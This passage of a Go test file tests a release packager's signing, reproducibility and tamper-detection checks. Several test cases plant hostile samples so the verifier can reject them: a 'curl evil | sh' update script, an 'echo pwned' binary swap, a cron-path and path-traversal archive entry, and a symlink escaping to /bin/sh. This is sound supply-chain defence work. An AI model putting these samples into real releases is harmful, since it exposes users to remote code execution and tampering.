package release

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/ecdsa"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/sigstore/sigstore/pkg/cryptoutils"

	"github.com/tern-agent/tern/packager/internal/aptrepo"
	"github.com/tern-agent/tern/packager/internal/artifact"
	"github.com/tern-agent/tern/packager/internal/checksum"
	"github.com/tern-agent/tern/packager/internal/config"
	"github.com/tern-agent/tern/packager/internal/fileutil"
	"github.com/tern-agent/tern/packager/internal/layout"
	"github.com/tern-agent/tern/packager/internal/manifest"
	"github.com/tern-agent/tern/packager/internal/sign"
	"github.com/tern-agent/tern/packager/internal/verify"
	"github.com/tern-agent/tern/packager/internal/version"
)

func runRelease(t *testing.T, repo string, o Options) (string, error) {
	t.Helper()
	var log bytes.Buffer
	o.Root, o.ReuseBuild, o.Log, o.SourceCache = repo, true, &log, fixtureCache
	if o.Until == 0 {
		o.Until = Verify
	}
	_, err := Run(context.Background(), o)
	return log.String(), err
}

func mustRelease(t *testing.T, repo string, o Options) string {
	t.Helper()
	log, err := runRelease(t, repo, o)
	if err != nil {
		t.Fatalf("release: %v\n%s", err, log)
	}
	return layout.ReleaseDir(repo)
}

func testKey(t *testing.T) (keyPEM string, priv *ecdsa.PrivateKey) {
	t.Helper()
	privPEM, _, err := sign.GenerateCosignKey([]byte("secret"))
	if err != nil {
		t.Fatal(err)
	}
	priv, err = sign.LoadCosignKey(string(privPEM), []byte("secret"))
	if err != nil {
		t.Fatal(err)
	}
	return string(privPEM), priv
}

func cfg(t *testing.T) *config.Config {
	t.Helper()
	c, err := config.Load(realConfig)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestSnapshotReleaseVerifiesWithTheCosignCLI(t *testing.T) {
	repo := newRepo(t)
	log := ""
	dir := func() string {
		var err error
		log, err = runRelease(t, repo, Options{Snapshot: true})
		if err != nil {
			t.Fatalf("release: %v\n%s", err, log)
		}
		return layout.ReleaseDir(repo)
	}()
	if !strings.Contains(log, "UNTRUSTED SNAPSHOT SIGNATURE") {
		t.Errorf("a snapshot signed with a throw-away key must say so loudly:\n%s", log)
	}
	pub := filepath.Join(repo, "dist", layout.SnapshotKey)
	if _, err := os.Stat(pub); err != nil {
		t.Fatalf("the snapshot's public key is not at %s", pub)
	}

	var names []string
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		names = append(names, e.Name())
	}
	want := []string{layout.Sums, layout.SumsBundle, layout.Manifest, "install.sh", "install.ps1", "tern"}
	for _, tg := range cfg(t).Targets {
		ext := ".tar.gz"
		if tg.GOOS == "windows" {
			ext = ".zip"
		}
		want = append(want, "tern-"+fixtureVersion+"-"+tg.Name+ext, "tern-"+fixtureVersion+"-"+tg.Name+".cdx.json",
			"tern-agent-cli-"+tg.NPMOS+"-"+tg.NPMCPU+"-"+fixtureVersion+".tgz")
	}
	want = append(want, "tern-agent-cli-"+fixtureVersion+".tgz")
	// The package managers' doors: Homebrew's cask, Scoop's manifest and
	// winget's three manifests.
	want = append(want, "tern.rb", "tern.json", "tern-agent.tern.yaml", "tern-agent.tern.installer.yaml", "tern-agent.tern.locale.en-US.yaml")
	// A .deb, an .rpm and an .apk per linux target, and the flat apt
	// repository of the .debs.
	info, err := version.FromGit(repo, true)
	if err != nil {
		t.Fatal(err)
	}
	lv, err := layout.LinuxVersionFor(fixtureVersion, info.Time)
	if err != nil {
		t.Fatal(err)
	}
	for _, tg := range cfg(t).Targets {
		if arch, ok := layout.LinuxArchFor(tg); ok {
			for _, f := range layout.LinuxFormats {
				want = append(want, layout.LinuxPackageName(cfg(t), f, lv, arch))
			}
		}
	}
	want = append(want, aptrepo.FlatFiles("tern")...)
	if len(names) != len(want) {
		t.Fatalf("release holds %v, want %v", names, want)
	}
	for _, w := range want {
		if _, err := os.Stat(filepath.Join(dir, w)); err != nil {
			t.Errorf("release lacks %s", w)
		}
	}

	if out, err := run(t, dir, nil, "sha256sum", "-c", layout.Sums); err != nil {
		t.Fatalf("sha256sum -c: %v\n%s", err, out)
	}
	cosign := cosignCLI(t)
	out, err := run(t, dir, nil, cosign, "verify-blob", "--key", pub, "--bundle", layout.SumsBundle, "--insecure-ignore-tlog=true", layout.Sums)
	if err != nil || !strings.Contains(out, "Verified OK") {
		t.Fatalf("cosign verify-blob refused the bundle: %v\n%s", err, out)
	}
}

func TestCosignKeyInterop(t *testing.T) {
	cosign := cosignCLI(t)
	keys := t.TempDir()
	if out, err := run(t, keys, []string{"COSIGN_PASSWORD=pw"}, cosign, "generate-key-pair"); err != nil {
		t.Fatalf("cosign generate-key-pair: %v\n%s", err, out)
	}
	keyPEM, err := os.ReadFile(filepath.Join(keys, "cosign.key"))
	if err != nil {
		t.Fatal(err)
	}
	// COSIGN_KEY may be a path or, as in a CI secret, the PEM itself.
	for _, key := range []string{filepath.Join(keys, "cosign.key"), string(keyPEM)} {
		repo := newRepo(t)
		dir := mustRelease(t, repo, Options{Snapshot: true, Sign: sign.Options{Key: key, Password: []byte("pw")}})
		out, err := run(t, dir, nil, cosign, "verify-blob", "--key", filepath.Join(keys, "cosign.pub"), "--bundle", layout.SumsBundle, "--insecure-ignore-tlog=true", layout.Sums)
		if err != nil || !strings.Contains(out, "Verified OK") {
			t.Fatalf("cosign verify-blob refused a bundle signed with cosign's own key: %v\n%s", err, out)
		}
		if _, err := os.Stat(filepath.Join(repo, "dist", layout.SnapshotKey)); err == nil {
			t.Errorf("signing with a real key must not write a throw-away public key")
		}
	}
}

func TestReproducibleAcrossClones(t *testing.T) {
	key, _ := testKey(t)
	var sums [][]byte
	for i := 0; i < 2; i++ {
		dir := mustRelease(t, newRepo(t), Options{Snapshot: true, Sign: sign.Options{Key: key, Password: []byte("secret")}})
		b, err := os.ReadFile(filepath.Join(dir, layout.Sums))
		if err != nil {
			t.Fatal(err)
		}
		sums = append(sums, b)
	}
	if !bytes.Equal(sums[0], sums[1]) {
		t.Fatalf("two clones gave different SHA256SUMS:\n%s\n%s", sums[0], sums[1])
	}
}

func TestRerunGivesTheSameRelease(t *testing.T) {
	repo := newRepo(t)
	first, _ := os.ReadFile(filepath.Join(mustRelease(t, repo, Options{Snapshot: true}), layout.Sums))
	second, _ := os.ReadFile(filepath.Join(mustRelease(t, repo, Options{Snapshot: true}), layout.Sums))
	if !bytes.Equal(first, second) {
		t.Fatalf("a re-run changed SHA256SUMS:\n%s\n%s", first, second)
	}
}

func TestArchivesAreNormalised(t *testing.T) {
	dir := mustRelease(t, newRepo(t), Options{Snapshot: true})
	f, err := os.Open(filepath.Join(dir, "tern-"+fixtureVersion+"-linux-x64.tar.gz"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	gz, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	if gz.Header.Name != "" || !gz.Header.ModTime.IsZero() {
		t.Errorf("gzip header carries name %q, time %v", gz.Header.Name, gz.Header.ModTime)
	}
	var names []string
	for _, m := range readTar(t, gz) {
		hdr := m.hdr
		names = append(names, hdr.Name)
		if hdr.Uid != 0 || hdr.Gid != 0 || hdr.ModTime.UTC().Format("2006-01-02T15:04:05Z") != fixtureCommitDate || len(hdr.PAXRecords) != 0 {
			t.Errorf("%s: uid %d gid %d mtime %v pax %v", hdr.Name, hdr.Uid, hdr.Gid, hdr.ModTime, hdr.PAXRecords)
		}
	}
	prefix := "tern-" + fixtureVersion + "-linux-x64/"
	want := []string{prefix, prefix + "LICENSE", prefix + "THIRD_PARTY_NOTICES.md", prefix + "bin/", prefix + "bin/tern",
		prefix + "libexec/", prefix + "libexec/tern/", prefix + "libexec/tern/bwrap"}
	if strings.Join(names, ",") != strings.Join(want, ",") {
		t.Fatalf("entries %v, want %v in this order", names, want)
	}
}

// reseal recomputes what an attacker with the signing key would: archive
// digests in the manifest, SHA256SUMS and the signature. What verify still
// catches after a reseal, it catches by looking inside the archives.
func reseal(t *testing.T, dir string, priv *ecdsa.PrivateKey, editManifest func(*manifest.Manifest)) {
	t.Helper()
	m, err := manifest.Read(filepath.Join(dir, layout.Manifest))
	if err != nil {
		t.Fatal(err)
	}
	for i, a := range m.Artifacts {
		sum, size, err := fileutil.SHA256File(filepath.Join(dir, a.Name))
		if os.IsNotExist(err) {
			continue // a case that removed it drops it from the manifest
		}
		if err != nil {
			t.Fatal(err)
		}
		m.Artifacts[i].SHA256, m.Artifacts[i].Size = sum, size
	}
	if editManifest != nil {
		editManifest(m)
	}
	raw, _ := json.MarshalIndent(m, "", "  ")
	writeFile(t, filepath.Join(dir, layout.Manifest), string(raw)+"\n")
	var lines []checksum.Line
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if e.Name() == layout.Sums || e.Name() == layout.SumsBundle {
			continue
		}
		sum, _, err := fileutil.SHA256File(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		lines = append(lines, checksum.Line{SHA256: sum, Name: e.Name()})
	}
	sums := checksum.Format(lines)
	writeFile(t, filepath.Join(dir, layout.Sums), string(sums))
	bundle, err := sign.WithKey(sums, priv)
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(dir, layout.SumsBundle), string(bundle))
}

type tarMember struct {
	hdr  tar.Header
	data []byte
}

// readTar reads every member of a tar stream.
func readTar(t *testing.T, r io.Reader) []tarMember {
	t.Helper()
	tr := tar.NewReader(r)
	var members []tarMember
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			return members
		}
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		members = append(members, tarMember{*hdr, data})
	}
}

// editTarGz rewrites an archive through edit.
func editTarGz(t *testing.T, path string, edit func([]tarMember) []tarMember) {
	t.Helper()
	f, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	gz, err := gzip.NewReader(bytes.NewReader(f))
	if err != nil {
		t.Fatal(err)
	}
	members := readTar(t, gz)
	var out bytes.Buffer
	gw := gzip.NewWriter(&out)
	tw := tar.NewWriter(gw)
	for _, m := range edit(members) {
		hdr := m.hdr
		hdr.Size = int64(len(m.data))
		if err := tw.WriteHeader(&hdr); err != nil {
			t.Fatal(err)
		}
		tw.Write(m.data)
	}
	tw.Close()
	gw.Close()
	writeFile(t, path, out.String())
}

// editJSON rewrites one JSON member of an archive.
func editJSON(member string, edit func(map[string]any)) func([]tarMember) []tarMember {
	return func(ms []tarMember) []tarMember {
		for i := range ms {
			if ms[i].hdr.Name == member {
				var doc map[string]any
				json.Unmarshal(ms[i].data, &doc)
				edit(doc)
				ms[i].data, _ = json.MarshalIndent(doc, "", "  ")
			}
		}
		return ms
	}
}

func copyDir(t *testing.T, from string) string {
	t.Helper()
	to := t.TempDir()
	entries, _ := os.ReadDir(from)
	for _, e := range entries {
		copyFile(t, filepath.Join(from, e.Name()), filepath.Join(to, e.Name()))
	}
	return to
}

func TestVerifyRefusesTampering(t *testing.T) {
	keyPEM, priv := testKey(t)
	good := mustRelease(t, newRepo(t), Options{Snapshot: true, Sign: sign.Options{Key: keyPEM, Password: []byte("secret")}})
	opts := verify.Options{Config: cfg(t), PublicKey: &priv.PublicKey}
	if err := verify.Release(good, opts); err != nil {
		t.Fatalf("the untouched release is refused: %v", err)
	}
	x64 := "tern-" + fixtureVersion + "-linux-x64.tar.gz"
	npmX64 := "tern-agent-cli-linux-x64-" + fixtureVersion + ".tgz"
	npmMeta := "tern-agent-cli-" + fixtureVersion + ".tgz"
	prefix := "tern-" + fixtureVersion + "-linux-x64/"
	arm64Bin, err := os.ReadFile(filepath.Join(fixtureBins, "linux_arm64", "tern"))
	if err != nil {
		t.Fatal(err)
	}
	setMember := func(name string, data []byte) func([]tarMember) []tarMember {
		return func(ms []tarMember) []tarMember {
			for i := range ms {
				if ms[i].hdr.Name == prefix+name {
					ms[i].data = data
				}
			}
			return ms
		}
	}
	addMember := func(hdr tar.Header, data []byte) func([]tarMember) []tarMember {
		return func(ms []tarMember) []tarMember { return append(ms, tarMember{hdr, data}) }
	}
	// swapBinary puts bin in the linux-x64 archive as an attacker with the
	// signing key would: with the manifest's binary digest and a reseal.
	swapBinary := func(t *testing.T, dir string, bin []byte) {
		editTarGz(t, filepath.Join(dir, x64), setMember("bin/tern", bin))
		reseal(t, dir, priv, func(m *manifest.Manifest) {
			for i := range m.Artifacts {
				if m.Artifacts[i].Name == x64 {
					m.Artifacts[i].Binary.SHA256 = sha256Hex(bin)
				}
			}
		})
	}

	for _, tc := range []struct {
		name   string
		tamper func(t *testing.T, dir string)
		want   []string
	}{
		{"a byte of an archive", func(t *testing.T, dir string) {
			p := filepath.Join(dir, x64)
			b, _ := os.ReadFile(p)
			b[len(b)/2] ^= 0xff
			writeFile(t, p, string(b))
		}, []string{x64 + ": sha256 is"}},
		{"a checksum line", func(t *testing.T, dir string) {
			p := filepath.Join(dir, layout.Sums)
			b, _ := os.ReadFile(p)
			if b[0] == 'f' { // any other hex digit
				b[0] = '0'
			} else {
				b[0] = 'f'
			}
			writeFile(t, p, string(b))
		}, []string{layout.SumsBundle + ": does not verify", "SHA256SUMS says"}},
		{"the signature", func(t *testing.T, dir string) {
			p := filepath.Join(dir, layout.SumsBundle)
			var bundle map[string]any
			raw, _ := os.ReadFile(p)
			json.Unmarshal(raw, &bundle)
			ms := bundle["messageSignature"].(map[string]any)
			sig := []byte(ms["signature"].(string))
			if sig[10] == 'A' { // any other base64 digit
				sig[10] = 'B'
			} else {
				sig[10] = 'A'
			}
			ms["signature"] = string(sig)
			raw, _ = json.Marshal(bundle)
			writeFile(t, p, string(raw))
		}, []string{layout.SumsBundle + ": does not verify"}},
		{"a missing signature", func(t *testing.T, dir string) {
			os.Remove(filepath.Join(dir, layout.SumsBundle))
		}, []string{layout.SumsBundle + ": missing: the release is unsigned"}},
		{"an archive member", func(t *testing.T, dir string) {
			editTarGz(t, filepath.Join(dir, x64), setMember("bin/tern", []byte("#!/bin/sh\necho pwned\n")))
			reseal(t, dir, priv, nil)
		}, []string{x64 + ": binary sha256 is", "is not an ELF executable"}},
		{"an extra archive member", func(t *testing.T, dir string) {
			editTarGz(t, filepath.Join(dir, x64), addMember(tar.Header{Name: prefix + "bin/evil", Mode: 0o755, Typeflag: tar.TypeReg, Format: tar.FormatUSTAR}, []byte("x")))
			reseal(t, dir, priv, nil)
		}, []string{x64 + ": unexpected file " + prefix + "bin/evil"}},
		{"an architecture", func(t *testing.T, dir string) {
			swapBinary(t, dir, arm64Bin)
		}, []string{x64 + ": binary is built for EM_AARCH64, not linux-x64"}},
		{"a path with ..", func(t *testing.T, dir string) {
			editTarGz(t, filepath.Join(dir, x64), addMember(tar.Header{Name: prefix + "../../evil", Mode: 0o644, Typeflag: tar.TypeReg}, []byte("x")))
			reseal(t, dir, priv, nil)
		}, []string{"contains .."}},
		{"an absolute path", func(t *testing.T, dir string) {
			editTarGz(t, filepath.Join(dir, x64), addMember(tar.Header{Name: "/etc/cron.d/evil", Mode: 0o644, Typeflag: tar.TypeReg}, []byte("x")))
			reseal(t, dir, priv, nil)
		}, []string{"has an absolute path"}},
		{"a link leading out", func(t *testing.T, dir string) {
			editTarGz(t, filepath.Join(dir, x64), addMember(tar.Header{Name: prefix + "bin/sh", Linkname: "../../../bin/sh", Mode: 0o777, Typeflag: tar.TypeSymlink}, nil))
			reseal(t, dir, priv, nil)
		}, []string{"is a link leading out of the tree"}},
		{"a shipped helper", func(t *testing.T, dir string) {
			editTarGz(t, filepath.Join(dir, x64), setMember("libexec/tern/bwrap", []byte("#!/bin/sh\necho evil\n")))
			reseal(t, dir, priv, nil)
		}, []string{x64 + ": helper bwrap has sha256"}},
		{"an npm platform package's binary", func(t *testing.T, dir string) {
			editTarGz(t, filepath.Join(dir, npmX64), func(ms []tarMember) []tarMember {
				for i := range ms {
					if ms[i].hdr.Name == "package/bin/tern" {
						ms[i].data[100] ^= 0xff
					}
				}
				return ms
			})
			reseal(t, dir, priv, nil)
		}, []string{npmX64 + ": its binary (sha256", "is not byte-identical to the linux-x64 archive's"}},
		{"an npm pin", func(t *testing.T, dir string) {
			editTarGz(t, filepath.Join(dir, npmMeta), editJSON("package/package.json", func(p map[string]any) {
				p["optionalDependencies"].(map[string]any)["@tern-agent/cli-linux-x64"] = "^" + fixtureVersion
			}))
			reseal(t, dir, priv, nil)
		}, []string{npmMeta + ": pins @tern-agent/cli-linux-x64 at \"^" + fixtureVersion + "\", want exactly " + fixtureVersion}},
		{"an npm launcher of another product", func(t *testing.T, dir string) {
			editTarGz(t, filepath.Join(dir, npmMeta), editJSON("package/package.json", func(p map[string]any) {
				p["bin"] = map[string]any{"acme": "bin/tern.js"}
			}))
			reseal(t, dir, priv, nil)
		}, []string{npmMeta + ": package.json installs the command(s) acme, want tern alone (a launcher of another product?)"}},
		{"an npm launcher reading another env prefix", func(t *testing.T, dir string) {
			editTarGz(t, filepath.Join(dir, npmMeta), func(ms []tarMember) []tarMember {
				for i := range ms {
					if ms[i].hdr.Name == "package/bin/tern.js" {
						ms[i].data = bytes.ReplaceAll(ms[i].data, []byte("TERN_BINARY_PATH"), []byte("ACME_BINARY_PATH"))
					}
				}
				return ms
			})
			reseal(t, dir, priv, nil)
		}, []string{npmMeta + ": its launcher bin/tern.js does not read TERN_BINARY_PATH: a launcher of another product?"}},
		{"an npm cpu", func(t *testing.T, dir string) {
			editTarGz(t, filepath.Join(dir, npmX64), editJSON("package/package.json", func(p map[string]any) { p["cpu"] = []string{"arm64"} }))
			reseal(t, dir, priv, nil)
		}, []string{npmX64 + ": package.json says os [linux] cpu [arm64], linux-x64 needs [linux] [x64]"}},
		{"a missing npm platform package", func(t *testing.T, dir string) {
			name := "tern-agent-cli-win32-arm64-" + fixtureVersion + ".tgz"
			os.Remove(filepath.Join(dir, name))
			reseal(t, dir, priv, func(m *manifest.Manifest) {
				var kept []manifest.Artifact
				for _, a := range m.Artifacts {
					if a.Name != name {
						kept = append(kept, a)
					}
				}
				m.Artifacts = kept
			})
		}, []string{"manifest.json: lists no npm platform package for target windows-arm64"}},
		{"an SBOM", func(t *testing.T, dir string) {
			p := filepath.Join(dir, "tern-"+fixtureVersion+"-linux-x64.cdx.json")
			writeFile(t, p, strings.Replace(readFile(t, p), `"version": "`+fixtureVersion+`"`, `"version": "6.6.6"`, 1))
			reseal(t, dir, priv, nil)
		}, []string{"tern-" + fixtureVersion + "-linux-x64.cdx.json: describes version \"6.6.6\""}},
		{"the DotSlash file", func(t *testing.T, dir string) {
			p := filepath.Join(dir, "tern")
			writeFile(t, p, strings.Replace(readFile(t, p), `"hash": "sha256",`, `"hash": "blake3",`, 1))
			reseal(t, dir, priv, nil)
		}, []string{"tern: gives"}},
		{"a file no checksum covers", func(t *testing.T, dir string) {
			writeFile(t, filepath.Join(dir, "update.sh"), "curl evil | sh\n")
		}, []string{"update.sh: is in the release but not in SHA256SUMS"}},
		{"a manifest that disagrees", func(t *testing.T, dir string) {
			reseal(t, dir, priv, func(m *manifest.Manifest) { m.Artifacts[0].SHA256 = strings.Repeat("0", 64) })
		}, []string{"manifest.json says sha256 " + strings.Repeat("0", 64)}},
		{"a stamped version", func(t *testing.T, dir string) {
			other := filepath.Join(t.TempDir(), "tern")
			src := filepath.Join(fixtureBins, "src")
			if err := buildFixture(src, other, config.Target{Name: "linux-x64", GOOS: "linux", GOARCH: "amd64"}, "9.9.9", "abc"); err != nil {
				t.Fatal(err)
			}
			bin, _ := os.ReadFile(other)
			swapBinary(t, dir, bin)
		}, []string{x64 + `: binary is stamped with version "9.9.9", the release is ` + fixtureVersion}},
		{"an installer pinning another key", func(t *testing.T, dir string) {
			_, other := testKey(t)
			pub, _ := sign.PublicKeyPEM(&other.PublicKey)
			p := filepath.Join(dir, "install.sh")
			script := regexp.MustCompile(`\nPUBLIC_KEY_PEM='[^']*'\n`).ReplaceAllLiteralString(readFile(t, p), "\nPUBLIC_KEY_PEM='"+strings.TrimSpace(string(pub))+"'\n")
			writeFile(t, p, script)
			reseal(t, dir, priv, nil)
		}, []string{"install.sh: pins another key than the one that signed this release"}},
		{"an install.sh copied from another product", func(t *testing.T, dir string) {
			p := filepath.Join(dir, "install.sh")
			script := strings.NewReplacer("PRODUCT=tern\n", "PRODUCT=acme\n", "${TERN_INSTALL_DIR:-", "${ACME_INSTALL_DIR:-").Replace(readFile(t, p))
			writeFile(t, p, script)
			reseal(t, dir, priv, nil)
		}, []string{
			"install.sh: names another product: PRODUCT=acme, want PRODUCT=tern (a template of another product?)",
			"install.sh: names another env prefix: install_dir=${ACME_INSTALL_DIR:-$HOME/.local/bin}, want install_dir=${TERN_INSTALL_DIR:-$HOME/.local/bin} (a template of another product?)",
		}},
		{"an install.ps1 of another repository and targets", func(t *testing.T, dir string) {
			p := filepath.Join(dir, "install.ps1")
			script := strings.NewReplacer("https://github.com/tern-agent/tern/releases'", "https://github.com/acme/acme/releases'", "$SupportedTargets = 'windows-x64 windows-arm64'", "$SupportedTargets = 'windows-x64'").Replace(readFile(t, p))
			writeFile(t, p, script)
			reseal(t, dir, priv, nil)
		}, []string{
			"install.ps1: names another download URL: $DefaultDownloadUrl = 'https://github.com/acme/acme/releases', want $DefaultDownloadUrl = 'https://github.com/tern-agent/tern/releases' (a template of another product?)",
			"install.ps1: names another targets: $SupportedTargets = 'windows-x64', want $SupportedTargets = 'windows-x64 windows-arm64' (a template of another product?)",
		}},
		{"a stamped helper digest", func(t *testing.T, dir string) {
			bin := filepath.Join(t.TempDir(), "tern")
			x64Target, _ := cfg(t).Target("linux-x64")
			other := strings.Repeat("e", 64)
			stamp := "@(#)version=" + fixtureVersion + ";commit=abc;date=" + fixtureCommitDate + ";bwrap_sha256=" + other
			if err := buildFixtureStamp(filepath.Join(fixtureBins, "src"), bin, x64Target, stamp); err != nil {
				t.Fatal(err)
			}
			data, _ := os.ReadFile(bin)
			swapBinary(t, dir, data)
		}, []string{x64 + ": binary is stamped with bwrap_sha256 " + strings.Repeat("e", 64) + ", but " + "tern-" + fixtureVersion + "-linux-x64/libexec/tern/bwrap has sha256 " + sha256Hex([]byte(fakeHelperPatched))}},
		{"an empty stamped helper digest", func(t *testing.T, dir string) {
			bin := filepath.Join(t.TempDir(), "tern")
			x64Target, _ := cfg(t).Target("linux-x64")
			x64Target.Helpers = nil // stamped as a target without bwrap: bwrap_sha256=
			if err := buildFixture(filepath.Join(fixtureBins, "src"), bin, x64Target, fixtureVersion, "abc"); err != nil {
				t.Fatal(err)
			}
			data, _ := os.ReadFile(bin)
			swapBinary(t, dir, data)
		}, []string{x64 + ": binary is stamped with no bwrap_sha256, but tern-" + fixtureVersion + "-linux-x64/libexec/tern/bwrap has sha256 " + sha256Hex([]byte(fakeHelperPatched)) + ": the binary would run it unchecked"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := copyDir(t, good)
			tc.tamper(t, dir)
			err := verify.Release(dir, opts)
			if err == nil {
				t.Fatal("verify accepted a tampered release")
			}
			for _, w := range tc.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("the refusal does not say %q:\n%v", w, err)
				}
			}
		})
	}

	t.Run("another key", func(t *testing.T) {
		_, other := testKey(t)
		err := verify.Release(good, verify.Options{Config: cfg(t), PublicKey: &other.PublicKey})
		if err == nil || !strings.Contains(err.Error(), layout.SumsBundle+": does not verify") {
			t.Fatalf("verify with another key: %v", err)
		}
	})
}

func TestBadInputsFailClearlyAndKeepThePreviousRelease(t *testing.T) {
	repo := newRepo(t)
	dir := mustRelease(t, repo, Options{Snapshot: true})
	before, _ := os.ReadFile(filepath.Join(dir, layout.Sums))

	for _, tc := range []struct {
		name  string
		setup func(t *testing.T)
		opts  Options
		want  string
	}{
		{"wrong key password", nil,
			Options{Snapshot: true, Sign: sign.Options{Key: mustKeyPEM(t), Password: []byte("wrong")}},
			"is COSIGN_PASSWORD right?"},
		{"a key that is no cosign key", nil,
			Options{Snapshot: true, Sign: sign.Options{Key: "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n"}},
			"not a cosign private key"},
		{"key and keyless at once", nil,
			Options{Snapshot: true, Sign: sign.Options{Key: mustKeyPEM(t), Keyless: true}},
			"choose one"},
		{"keyless outside GitHub Actions", nil,
			Options{Snapshot: true, Sign: sign.Options{Keyless: true, IDToken: sign.GitHubActionsToken}},
			"permissions: id-token: write"},
		{"an untagged release", nil, Options{}, "has no v* tag"},
		{"a missing binary", func(t *testing.T) {
			p := filepath.Join(repo, "dist", "build", "artifacts.json")
			raw, _ := os.ReadFile(p)
			var entries []map[string]any
			json.Unmarshal(raw, &entries)
			var kept []map[string]any
			for _, e := range entries {
				if e["goos"] != "windows" || e["goarch"] != "arm64" {
					kept = append(kept, e)
				}
			}
			b, _ := json.Marshal(kept)
			writeFile(t, p, string(b))
		}, Options{Snapshot: true}, "has no binary for windows-arm64"},
		{"no build at all", func(t *testing.T) {
			os.RemoveAll(filepath.Join(repo, "dist", "build"))
		}, Options{Snapshot: true}, "artifacts.json is missing"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.setup != nil {
				tc.setup(t)
			}
			t.Setenv("ACTIONS_ID_TOKEN_REQUEST_URL", "")
			log, err := runRelease(t, repo, tc.opts)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want it to say %q\n%s", err, tc.want, log)
			}
			after, _ := os.ReadFile(filepath.Join(dir, layout.Sums))
			if !bytes.Equal(before, after) {
				t.Fatalf("a failed run changed the previous release")
			}
			leftovers, _ := filepath.Glob(filepath.Join(repo, "dist", ".release-*"))
			if len(leftovers) > 0 {
				t.Fatalf("a failed run left %v behind", leftovers)
			}
		})
	}
}

func mustKeyPEM(t *testing.T) string {
	k, _ := testKey(t)
	return k
}

func sha256Hex(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

func TestHelpersAreRecordedWithTheirSourceAndLicence(t *testing.T) {
	dir := mustRelease(t, newRepo(t), Options{Snapshot: true})
	m, err := manifest.Read(filepath.Join(dir, layout.Manifest))
	if err != nil {
		t.Fatal(err)
	}
	patched := sha256Hex([]byte(fakeHelperPatched))
	for _, a := range m.Artifacts {
		if a.Kind != artifact.Archive {
			continue
		}
		linux := strings.Contains(a.Name, "linux")
		if got := len(a.Helpers); (linux && got != 1) || (!linux && got != 0) {
			t.Fatalf("%s lists %d helpers", a.Name, got)
		}
		if linux {
			h := a.Helpers[0]
			if h.Name != "bwrap" || h.Version != "1.0" || h.SHA256 != patched || h.Source == nil ||
				h.Source.SHA256 != sha256Hex(fakeHelperSource) || h.Source.License != "MIT" {
				t.Fatalf("%s: helper recorded as %+v (source %+v)", a.Name, h, h.Source)
			}
		}
	}
	stage := filepath.Join(filepath.Dir(dir), "stage", "linux-x64")
	notices, err := os.ReadFile(filepath.Join(stage, "THIRD_PARTY_NOTICES.md"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"## bwrap 1.0 (MIT), helper binary built from", sha256Hex(fakeHelperSource), "Fake helper licence, MIT."} {
		if !strings.Contains(string(notices), want) {
			t.Errorf("THIRD_PARTY_NOTICES.md lacks %q", want)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(stage, "libexec", "tern", "bwrap")); string(b) != fakeHelperPatched {
		t.Fatalf("the staged helper is %q, want the patched script", b)
	}
}

func TestHelperBuildFailuresNameTheRemedy(t *testing.T) {
	for _, tc := range []struct {
		name  string
		edit  func(t *testing.T, repo string)
		cache string
		want  []string
	}{
		{"an output that differs from the lock", func(t *testing.T, repo string) {
			writeFile(t, filepath.Join(repo, "third_party", "fake", "lock.yaml"), "linux-x64: "+strings.Repeat("0", 64)+"\n")
		}, "", []string{"built to sha256 " + sha256Hex([]byte(fakeHelperPatched)), "expects " + strings.Repeat("0", 64), "--update-lock"}},
		{"a patch that is not the pinned one", func(t *testing.T, repo string) {
			writeFile(t, filepath.Join(repo, "third_party", "fake", "patches", "0001-patched.patch"), fakeHelperPatch+" \n")
		}, "", []string{"0001-patched.patch has sha256", "want " + sha256Hex([]byte(fakeHelperPatch))}},
		{"a source missing from the cache", nil, "empty", []string{"is not in", "packager helpers fetch"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			repo := newRepo(t)
			if tc.edit != nil {
				tc.edit(t, repo)
			}
			o := Options{Snapshot: true}
			var log bytes.Buffer
			o.Root, o.ReuseBuild, o.Log, o.Until, o.SourceCache = repo, true, &log, Verify, fixtureCache
			if tc.cache == "empty" {
				o.SourceCache = t.TempDir()
			}
			_, err := Run(context.Background(), o)
			for _, w := range tc.want {
				if err == nil || !strings.Contains(err.Error(), w) {
					t.Errorf("err = %v, want it to say %q", err, w)
				}
			}
			if _, err := os.Stat(layout.ReleaseDir(repo)); err == nil {
				t.Errorf("a failed helper build must not leave a release")
			}
		})
	}
}

// A snapshot is signed with a throw-away key, so its bundle carries no
// certificate: verifying it against the release identity (verify without
// --key) must say so and name the key to use, without going to the network
// for a trusted root it could not use anyway.
func TestVerifyKeySignedWithoutKeyNamesTheSnapshotKey(t *testing.T) {
	dir := mustRelease(t, newRepo(t), Options{Snapshot: true})
	// Any attempt at the network fails at once, and no TUF cache helps.
	t.Setenv("HOME", t.TempDir())
	t.Setenv("HTTPS_PROXY", "http://127.0.0.1:1")
	t.Setenv("HTTP_PROXY", "http://127.0.0.1:1")
	c := cfg(t)
	err := verify.Release(dir, verify.Options{Config: c,
		CertificateIdentityRegexp: c.Signing.CertificateIdentityRegexp, CertificateOIDCIssuer: c.Signing.CertificateOIDCIssuer})
	if err == nil {
		t.Fatal("verify accepted a key-signed release against an identity")
	}
	for _, w := range []string{
